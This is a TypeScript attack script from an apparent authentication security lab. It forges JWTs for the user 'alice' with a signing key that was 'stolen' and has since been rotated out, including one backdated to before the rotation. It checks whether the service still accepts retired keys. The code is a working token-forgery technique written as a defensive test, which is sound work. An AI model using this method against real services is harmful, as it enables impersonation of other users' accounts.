/**
 * Once, a developer copied the service's signing key to a laptop to mint test tokens, and the
 * laptop was stolen. Nobody worried: the key is rotated every 90 days. The thief waits until the
 * key has been retired and every token it signed has expired, then signs its own access token
 * for alice with it.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { blocked, defineAttack, type LabTarget, postJson, worked } from '@authlab/lab-kit';
import { decodeJwt, decodeProtectedHeader, importJWK, SignJWT } from 'jose';

const MINUTE = 60 * 1000;
const DAY = 24 * 60 * MINUTE;

/** Mallory is an ordinary account of the attacker's: her tokens show which key signs today. */
async function signInAsMallory(lab: LabTarget): Promise<string> {
  const response = await postJson(lab, '/login', { username: 'mallory', password: 'correct-horse-battery-staple' });
  if (!response.ok) throw new Error(`mallory could not sign in: ${response.status}`);
  return ((await response.json()) as { access_token: string }).access_token;
}

export default defineAttack({
  title: 'forge a token for alice with a signing key that was retired half an hour ago',
  why: 'the service keeps every retired key in its JWKS for ever, so a key that leaked once never stops working',
  async run(lab) {
    // Day 0: the key that signs today is the one the developer copied (the lab takes the copy
    // from the service's key file).
    const { kid } = decodeProtectedHeader(await signInAsMallory(lab));
    const { keys } = JSON.parse(readFileSync(join(lab.dataDir, 'keys.json'), 'utf8'));
    const copy = keys.find((key: { kid: string }) => key.kid === kid);
    if (!copy) throw new Error(`keys.json holds no key with kid ${kid}`);
    const stolenKey = await importJWK(copy.jwk, 'EdDSA');

    // Day 91: the scheduled rotation has happened; mallory's new token shows the key now signing.
    await lab.advanceClock(91 * DAY);
    const today = await signInAsMallory(lab);
    const rotated = decodeProtectedHeader(today).kid !== kid;

    // Half an hour later every token the stolen key signed has expired (they live 15 minutes), so
    // nobody needs it any more. The thief signs a new one.
    await lab.advanceClock(30 * MINUTE);
    const now = (decodeJwt(today).iat as number) + 30 * 60;
    // The thief writes every claim: a server that judges a retired key's tokens by their `iat`
    // gets one dated a minute before the rotation, with an `exp` as far ahead as it likes.
    const rotatedAt = decodeJwt(today).iat as number;
    const forgeries = [
      ['dated now', now],
      ['dated a minute before the rotation', rotatedAt - 60],
    ] as const;
    const age = rotated ? 'was retired half an hour ago' : 'still signs after 91 days (no rotation happened)';
    const refused: string[] = [];
    for (const [dated, iat] of forgeries) {
      const forged = await new SignJWT({ sub: 'alice' })
        .setProtectedHeader({ alg: 'EdDSA', kid })
        .setIssuedAt(iat)
        .setExpirationTime(now + 15 * 60)
        .sign(stolenKey);
      const me = await fetch(`${lab.url}/api/me`, { headers: { authorization: `Bearer ${forged}` } });
      if (me.ok) {
        return worked(
          `key ${kid} ${age}, yet a token for alice signed with it (${dated}) got GET /api/me → 200 ${await me.text()}`,
        );
      }
      refused.push(`${dated}: ${me.status}`);
    }
    return blocked(`key ${kid} ${age}; the tokens forged with it were refused (${refused.join(', ')})`);
  },
});
